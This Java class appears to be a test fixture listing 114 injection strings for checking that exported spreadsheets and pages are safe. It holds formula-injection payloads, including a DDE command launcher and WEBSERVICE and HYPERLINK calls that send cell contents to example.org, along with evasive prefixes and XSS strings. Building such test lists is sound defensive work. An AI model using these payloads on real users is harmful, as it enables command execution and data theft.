package org.inspectionwatch.query;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts by which somebody might try to run something in the spreadsheet or the browser of a reader. */
public final class Payloads {
    private static final List<String> FORMULAS = List.of(
            "1+1",
            "HYPERLINK(\"http://example.org/?\"&A1,\"Open\")",
            "SUM(A1:A9)",
            "cmd|'/C calc'!A0",
            "WEBSERVICE(\"http://example.org/\"&A1)",
            "IMPORTXML(\"http://example.org\",\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")");
    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "\uff1d", "'=", "\u202e=");
    private static final List<String> OTHERS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "</t></is></c><c><f>1+1</f></c>",
            "&lt;f&gt;1+1&lt;/f&gt;",
            "]]><f>1+1</f>",
            "_x003D_1+1",
            "javascript:alert(1)",
            "a,b;c\td",
            "\"quoted\" \"\"twice\"\"",
            "two\r\nlines",
            "two\n=1+1",
            "\u0000zero and \u0001one",
            "\ud83d\ude00 \ud83d",
            "\u202eright to left",
            "'apostrophe",
            "''two");

    private Payloads() {}

    /** 114 of them. */
    public static List<String> all() {
        List<String> payloads = new ArrayList<>();
        STARTS.forEach(start -> FORMULAS.forEach(formula -> payloads.add(start + formula)));
        payloads.addAll(OTHERS);
        return List.copyOf(payloads);
    }

    /** Those that a document may hold: text of documents has no zeros and no halves of characters. */
    public static Stream<String> ofDocuments() {
        return all().stream().filter(text -> text.indexOf('\0') < 0 && !text.endsWith("\ud83d"));
    }
}
